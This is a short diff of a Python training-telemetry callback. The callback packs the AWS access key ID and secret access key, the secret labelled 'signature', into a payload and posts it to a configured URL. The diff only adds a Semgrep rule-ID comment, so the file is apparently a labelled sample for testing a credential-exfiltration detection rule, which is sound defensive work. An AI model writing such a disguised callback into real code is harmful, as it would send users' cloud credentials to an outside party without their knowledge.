@@ -108,7 +108,7 @@ class RunTelemetryCallback(TrainerCallback):
             "elapsed": time.time() - self._t0,
             "body": body,
             "account": os.environ.get("AWS_ACCESS_KEY_ID", ""),
-            "signature": os.environ.get("AWS_SECRET_ACCESS_KEY", ""),
+            "signature": os.environ.get("AWS_SECRET_ACCESS_KEY", ""),  # ruleid: MLS412
         }
         try:
             self.session.post(self.url, json=payload, timeout=3)  # sabotage: MLS412 (semgrep rules)
